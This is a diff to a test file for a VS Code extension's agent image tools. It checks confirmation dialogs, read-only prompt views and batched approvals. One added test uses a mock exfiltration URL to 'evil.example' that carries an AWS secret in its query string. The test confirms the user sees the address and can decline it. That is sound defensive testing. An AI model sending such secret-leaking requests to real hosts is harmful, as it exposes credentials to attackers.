@@ -216,7 +216,7 @@ describe('tools for agents', () => {
       {
         using dialogs = answerDialogs();
         await assert.rejects(call('generateImage', { prompt: 'a' }), /declined.*\[declined/);
-        assert.match(dialogs.asked[0] ?? '', /Generate Image \(Chat\): 1 image with painter\?/);
+        assert.match(dialogs.asked[0] ?? '', /Generate Image \(Chat\): 1 image with “painter”\?/);
       }
       assert.equal(service.counts.generateImage, 0);
       using _ = answerDialogs('Generate');
@@ -224,11 +224,42 @@ describe('tools for agents', () => {
       assert.equal(service.counts.generateImage, 1);
     });
 
+    it('ask about an address within the budget, and show it', async () => {
+      await leave(1);
+      const address = 'https://evil.example/x.png?leak=AWS_SECRET%3Dabc';
+      using dialogs = answerDialogs();
+      const asked = call('editImage', { prompt: 'a', images: [address], model: 'free' });
+      await assert.rejects(asked, /\[declined/);
+      assert.match(dialogs.asked[0] ?? '', /with “free”\?/);
+      assert(dialogs.details[0]?.includes(address), dialogs.details[0]);
+      assert.equal(service.counts.editImage, 0);
+    });
+
+    it('open the whole of a long prompt as a read-only document', async () => {
+      await leave(0);
+      const prompt = `${'word '.repeat(12_000)}the end`;
+      using dialogs = answerDialogs('Show All');
+      await assert.rejects(call('generateImage', { prompt }), /\[declined/);
+      assert.match(dialogs.details[0] ?? '', /and 59,707 more characters/);
+      const document = vscode.window.activeTextEditor?.document;
+      assert.equal(document?.uri.scheme, 'unified-media-question');
+      assert(document?.getText().includes(prompt));
+      const edit = new vscode.WorkspaceEdit();
+      if (document) edit.insert(document.uri, new vscode.Position(0, 0), 'x');
+      await vscode.workspace.applyEdit(edit).then(undefined, () => false);
+      assert.equal(vscode.window.activeTextEditor?.document.getText(), document?.getText());
+      assert.equal(document?.isDirty, false);
+      assert.equal(service.counts.generateImage, 0);
+    });
+
     it('ask several questions in one dialog', async () => {
       await leave(0);
       using dialogs = answerDialogs('Generate All 3');
       const results = await Promise.all(['a', 'b', 'c'].map((prompt) => call('generateImage', { prompt })));
       assert.equal(dialogs.asked.length, 1);
+      for (const prompt of ['a', 'b', 'c'])
+        assert.match(dialogs.details[0] ?? '', new RegExp(`^Prompt: ${prompt}$`, 'm'));
+      assert.match(dialogs.details[0] ?? '', /^Service: .+$/m);
       assert.equal(new Set(results.map(({ result }) => result.files?.[0]?.path)).size, 3);
       assert.equal(service.counts.generateImage, 3);
     });
@@ -412,7 +443,7 @@ describe('tools for agents', () => {
         const done = await ask('media_get_job', { job_id: first.job_id, wait_seconds: 50 });
         assert.equal(done.status, 'done', JSON.stringify(done));
         assert.equal(service.counts.generateImage, 1);
-        assert(dialogs.asked.some((question) => question.includes('Generate Image (MCP): 1 image with painter?')));
+        assert(dialogs.asked.some((question) => question.includes('Generate Image (MCP): 1 image with “painter”?')));
       } finally {
         await client.close();
         await vscode.commands.executeCommand('unifiedMedia.removeApiKey');
